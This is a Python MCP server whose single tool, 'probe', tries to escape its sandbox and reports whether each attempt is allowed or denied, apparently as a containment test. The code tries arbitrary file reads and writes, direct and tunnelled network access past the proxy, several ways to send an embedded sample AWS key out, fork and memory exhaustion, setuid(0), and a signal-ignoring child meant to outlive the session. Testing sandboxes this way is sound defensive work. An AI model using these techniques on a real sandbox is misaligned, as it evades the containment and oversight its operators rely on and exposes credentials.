"""A stdio MCP server whose one tool, `probe`, tries to break out of its
sandbox and reports what happened. Plain Python (no packages), so it runs
under any python3 the sandbox can read.

`probe` takes `what` and `target`:
  read      read the file `target`
  write     create the file `target`
  connect   open a TCP connection to 127.0.0.1:`target`
  udp       send a UDP datagram to 127.0.0.1:`target`
  fork      fork up to `target` children (each sleeps 2 s), report how many
  workdir   write and read back a file in $HOME (the session's work dir)
  setuid    call setuid(0): not on the seccomp allow-list (kills the process)
  burn      spin the CPU for `target` seconds
  fetch     GET the URL `target` through the proxy in $HTTP_PROXY (urllib)
  direct    GET the URL `target` directly, ignoring any proxy
  tunnel    GET / from `target` (host:port) through a CONNECT tunnel of
            the proxy in $HTTP_PROXY
  post      POST a JSON body holding `body` (default: a harmless note)
            to the URL `target` through the proxy
  exfil     send an AWS access key the server holds to the URL `target`
            through the proxy, in `body` (one of `json`, `query`,
            `header`, `form`, `big`: a 64 KiB body ending with it)
  stream    POST `target` KiB of text, chunked (no length announced), to
            the URL `body` through the proxy; report the proxy's answer
  hog       fork children that each fill `target` MiB of memory and hold it
  linger    fork a child that ignores hang-ups and terminations, leaves the
            session's pipes and appends a byte to $HOME/alive every 100 ms
            for a minute: it must not outlive the gateway
It answers `ALLOWED: ...` or `DENIED: <error>`.
"""
import http.client
import json
import os
import socket
import sys
import time
import urllib.error
import urllib.parse
import urllib.request


# A credential the server holds (the scanner's sample AWS key id), put
# together at run time: it never passes the MCP session.
KEY = "AKIA" + "QWADE5R42RDZ4JEM"


def send(target, data=None, headers=None):
    req = urllib.request.Request(target, data=data, headers=headers or {})
    with urllib.request.urlopen(req, timeout=10) as r:
        return "ALLOWED: %d %s" % (r.status, r.read().decode())


def probe(what, target, body=""):
    try:
        if what == "read":
            with open(target, "rb") as f:
                return "ALLOWED: read %d bytes" % len(f.read())
        if what == "write":
            with open(target, "w") as f:
                f.write("escaped")
            return "ALLOWED: wrote " + target
        if what == "connect":
            s = socket.create_connection(("127.0.0.1", int(target)), timeout=3)
            s.close()
            return "ALLOWED: connected"
        if what == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                s.sendto(b"out", ("127.0.0.1", int(target)))
            finally:
                s.close()
            return "ALLOWED: sent"
        if what == "fork":
            n = 0
            try:
                for _ in range(int(target)):
                    if os.fork() == 0:
                        time.sleep(2)
                        os._exit(0)
                    n += 1
            except OSError as e:
                return "DENIED: forked %d, then %s" % (n, e)
            return "ALLOWED: forked %d" % n
        if what == "workdir":
            path = os.path.join(os.environ["HOME"], "note.txt")
            with open(path, "w") as f:
                f.write("kept")
            with open(path) as f:
                return "ALLOWED: " + f.read() + " in " + os.environ["HOME"]
        if what == "setuid":
            os.setuid(0)
            return "ALLOWED: setuid"
        if what == "fetch":
            with urllib.request.urlopen(target, timeout=10) as r:
                return "ALLOWED: %d %s" % (r.status, r.read().decode())
        if what == "direct":
            opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
            with opener.open(target, timeout=5) as r:
                return "ALLOWED: %d %s" % (r.status, r.read().decode())
        if what == "tunnel":
            proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
            host, port = target.rsplit(":", 1)
            c = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=10)
            c.set_tunnel(host, int(port))
            c.request("GET", "/tunnelled")
            r = c.getresponse()
            return "ALLOWED: %d %s" % (r.status, r.read().decode())
        if what == "post":
            note = json.dumps({"note": body or "quarterly numbers"}).encode()
            return send(target, note, {"Content-Type": "application/json"})
        if what == "exfil":
            if body == "json":
                return send(target, json.dumps({"x": {"note": KEY}}).encode(),
                            {"Content-Type": "application/json"})
            if body == "query":
                return send(target + "?q=" + KEY)
            if body == "header":
                return send(target, headers={"X-Note": KEY})
            if body == "form":
                return send(target, urllib.parse.urlencode({"k": KEY}).encode(),
                            {"Content-Type": "application/x-www-form-urlencoded"})
            if body == "big":
                return send(target, ("x" * 65536 + KEY).encode(), {"Content-Type": "text/plain"})
            return "unknown exfil"
        if what == "stream":
            proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
            c = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=30)
            c.putrequest("POST", body)
            c.putheader("Transfer-Encoding", "chunked")
            c.putheader("Content-Type", "text/plain")
            c.endheaders()
            chunk = b"x" * 1024
            try:
                for _ in range(int(target)):
                    c.send(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                c.send(b"0\r\n\r\n")
            except OSError:
                pass  # refused mid-body: the answer is already there
            r = c.getresponse()
            text = r.read().decode()
            return ("ALLOWED: %d %s" if r.status < 400 else "DENIED: %d %s") % (r.status, text)
        if what == "hog":
            size = int(target) * 1024 * 1024
            for _ in range(3):
                if os.fork() == 0:
                    held = b"x" * size
                    time.sleep(10)
                    os._exit(len(held) & 1)
            time.sleep(10)
            return "ALLOWED: held %d MiB three times" % int(target)
        if what == "linger":
            if os.fork() == 0:
                import signal
                for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGPIPE, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                path = os.path.join(os.environ["HOME"], "alive")
                for _ in range(600):
                    with open(path, "a") as f:
                        f.write("x")
                    time.sleep(0.1)
                os._exit(0)
            return "ALLOWED: lingering in " + os.environ["HOME"]
        if what == "burn":
            end = time.time() + float(target)
            while time.time() < end:
                pass
            return "ALLOWED: burned"
        return "unknown probe"
    except urllib.error.HTTPError as e:
        return "DENIED: %d %s" % (e.code, e.read().decode())
    except Exception as e:  # noqa: BLE001 - every refusal is the answer
        return "DENIED: %s" % e


TOOL = {
    "name": "probe",
    "description": "Tries something the sandbox should refuse.",
    "inputSchema": {
        "type": "object",
        "properties": {
            "what": {"type": "string"},
            "target": {"type": "string"},
            "body": {"type": "string"},
        },
        "required": ["what"],
    },
}


def answer(id_, result):
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": id_, "result": result}) + "\n")
    sys.stdout.flush()


for line in sys.stdin:
    msg = json.loads(line)
    method, id_ = msg.get("method"), msg.get("id")
    if id_ is None:
        continue
    if method == "initialize":
        answer(id_, {
            "protocolVersion": msg["params"]["protocolVersion"],
            "capabilities": {"tools": {}},
            "serverInfo": {"name": "probe", "version": "1"},
        })
    elif method == "tools/list":
        answer(id_, {"tools": [TOOL]})
    elif method == "tools/call":
        args = msg["params"].get("arguments", {})
        text = probe(args.get("what"), args.get("target", ""), args.get("body", ""))
        answer(id_, {"content": [{"type": "text", "text": text}]})
    else:
        sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": id_, "error": {"code": -32601, "message": "no such method"}}) + "\n")
        sys.stdout.flush()
